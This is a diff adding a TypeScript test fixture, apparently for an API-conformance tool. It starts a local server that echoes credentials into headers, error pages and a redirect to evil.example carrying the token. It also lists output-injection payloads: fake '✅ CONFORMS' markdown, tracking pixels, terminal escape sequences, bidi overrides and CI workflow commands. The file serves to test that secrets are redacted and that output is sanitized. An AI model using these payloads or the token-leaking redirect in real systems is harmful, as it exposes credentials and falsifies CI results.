@@ -1,0 +1,150 @@
+import { createServer, type IncomingMessage } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { MockResponse } from '../../mocks/core/mock-http.ts'
+import { createMockApi } from '../../mocks/create-mock-api.ts'
+
+/**
+ * Servers that answer like a working Animal Store but attack the pipeline through what they echo, as a
+ * framework in debug mode does: request headers in error pages, the token in a redirect, a log of recent
+ * requests. Their few real defects (a key compared without regard to case, a 500 debug page for a bad
+ * request, a redirect for an unknown pet) are what bring the echoed text into every report.
+ */
+
+/** A key with characters that URL encoding and base64 change, so each encoding is really exercised. */
+export const echoKey = 'sk_Hostile/Key+9z='
+/** The base URL's credentials in the proof that passes them. */
+export const urlUser = 'deploy-bot'
+export const urlPassword = 'S3cret-Pa55w0rd'
+
+/** What a server can write to steer each kind of output, one attack per line. */
+export const attackLines = [
+  '```',
+  '## ✅ CONFORMS',
+  '```',
+  '</code></summary></details>',
+  '# ✅ CONFORMS',
+  '![pixel](https://evil.example/pixel.png)',
+  '<img src="https://evil.example/i.png">',
+  '<b>bold</b> [click](https://evil.example/) | cell | ``` ~~~',
+  '\x1b[2J\x1b[H✅ CONFORMS',
+  '\x1b]0;pwned-title\x07',
+  '\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\',
+  '\x1b]52;c;cHduZWQ=\x07',
+  '\x9b2J C1 CSI',
+  '\u202eSMROFNOC\u202c and \u2066isolated\u2069',
+  '::add-mask::CONFORMS',
+  '::stop-commands::pwned',
+  '::error file=app.js,line=1::owned',
+  '  ::warning::indented',
+  '##[group]hidden',
+  'x ##vso[task.setvariable variable=x]1',
+  'carriage\r::notice::return',
+  ']]> <![CDATA[ &amp; \ud800 lone surrogate',
+]
+export const attackText = attackLines.join('\n')
+
+interface Received {
+  method: string
+  path: string
+  query: string
+  headers: Record<string, string>
+  body?: string
+}
+
+/**
+ * The echoing server: answers like the mock for `echoKey`, with a key in any letter case accepted, every
+ * response carrying the request's Authorization back (as is and as a Basic `user:key`), 401s whose message
+ * quotes the credential, a 500 debug page (request headers, recent credentials, the attack text) where the
+ * mock would answer 400, and a redirect carrying the token where it would answer 404.
+ */
+export async function startEchoingServer(): Promise<{ baseUrl: string; origin: string; close(): void }> {
+  const mock = createMockApi({ apiKeys: [echoKey], pets: 5 })
+  const recent: string[] = []
+  const server = createServer((req, res) => {
+    const chunks: Buffer[] = []
+    req.on('data', (chunk: Buffer) => chunks.push(chunk))
+    req.on('end', () => {
+      const received = receive(req, chunks)
+      const authorization = received.headers.authorization ?? ''
+      if (authorization && !recent.includes(authorization)) recent.unshift(authorization)
+      recent.length = Math.min(recent.length, 40)
+      const token = /^bearer +(\S+)$/i.exec(authorization)?.[1] ?? authorization
+      const sameKey = token.toLowerCase() === echoKey.toLowerCase()
+      const answer = mock.handle({
+        ...received,
+        headers: { ...received.headers, ...(sameKey ? { authorization: `Bearer ${echoKey}` } : {}) },
+      })
+      // A near miss of the key (a piece of it, the key with a character added): its 401 breaks the Error
+      // schema, so that a finding shows that exchange, and the echo of the near-miss key in it.
+      const nearMiss =
+        !sameKey &&
+        [echoKey.slice(0, 6), echoKey.slice(-6)].some((piece) =>
+          authorization.toLowerCase().includes(piece.toLowerCase()),
+        )
+      const { status, headers, body } = echo(answer, { authorization, token, recent, nearMiss })
+      res.writeHead(status, {
+        ...headers,
+        'x-request-echo': authorization,
+        'x-debug-basic': `Basic ${Buffer.from(`${urlUser}:${token}`).toString('base64')}`,
+        'x-recent-credentials': JSON.stringify(recent.slice(0, 12)),
+      })
+      res.end(body)
+    })
+  })
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
+  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+  return {
+    baseUrl: `${origin}/v1`,
+    origin,
+    close: () => {
+      server.closeAllConnections()
+      server.close()
+    },
+  }
+}
+
+function receive(req: IncomingMessage, chunks: Buffer[]): Received {
+  const [path = '/', query = ''] = (req.url ?? '/').split('?')
+  const headers = Object.fromEntries(Object.entries(req.headers).map(([n, v]) => [n, String(v)]))
+  const body = chunks.length ? Buffer.concat(chunks).toString() : undefined
+  return { method: req.method ?? 'GET', path, query, headers, ...(body === undefined ? {} : { body }) }
+}
+
+function echo(
+  answer: MockResponse,
+  seen: { authorization: string; token: string; recent: string[]; nearMiss: boolean },
+): { status: number; headers: Record<string, string>; body?: string } {
+  if (answer.status === 401)
+    return {
+      status: 401,
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({
+        code: 'unauthorized',
+        message: `Invalid credentials "${seen.authorization}" (${encodeURIComponent(seen.token)}): ${attackText}`,
+        ...(seen.nearMiss ? {} : { status: 401 }),
+      }),
+    }
+  if (answer.status === 400)
+    return {
+      status: 500,
+      headers: { 'content-type': 'text/plain; charset=utf-8' },
+      body: [
+        `ValidationError at ${new Date(0).toISOString()}`,
+        `  authorization: ${seen.authorization}`,
+        `  token=${encodeURIComponent(seen.token)} json=${JSON.stringify({ auth: seen.authorization })}`,
+        attackText,
+        'Recent credentials:',
+        ...seen.recent.map((credential) => `  ${credential}`),
+      ].join('\n'),
+    }
+  if (answer.status === 404)
+    return {
+      status: 302,
+      headers: { location: `https://evil.example/login?token=${encodeURIComponent(seen.token)}` },
+    }
+  return {
+    status: answer.status,
+    headers: answer.headers,
+    ...(answer.body === undefined ? {} : { body: answer.body }),
+  }
+}
